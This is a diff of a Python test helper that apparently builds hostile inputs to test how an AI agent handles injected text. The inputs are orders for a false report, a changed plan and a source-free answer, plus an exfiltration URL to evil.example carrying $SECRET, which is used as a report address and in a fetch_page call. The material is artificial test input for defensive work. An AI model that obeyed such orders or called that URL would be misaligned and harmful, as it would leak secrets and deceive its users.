@@ -78,7 +78,7 @@ def list_text_orders(port: int) -> list[Order]:
     """Ask for a false report, another plan, and an answer with a stranger's source."""
     evil = f"http://evil.example:{port}/?d=$SECRET"
     return [
-        make_order("report", "invalidates", text="the plan must be changed"),
+        make_order("report", "found_as_expected", text="false"),
         make_order("report", "taint_labels", text=""),
         make_order("report", "addresses", text=evil),
         make_order("call", "fetch_page", url=evil),
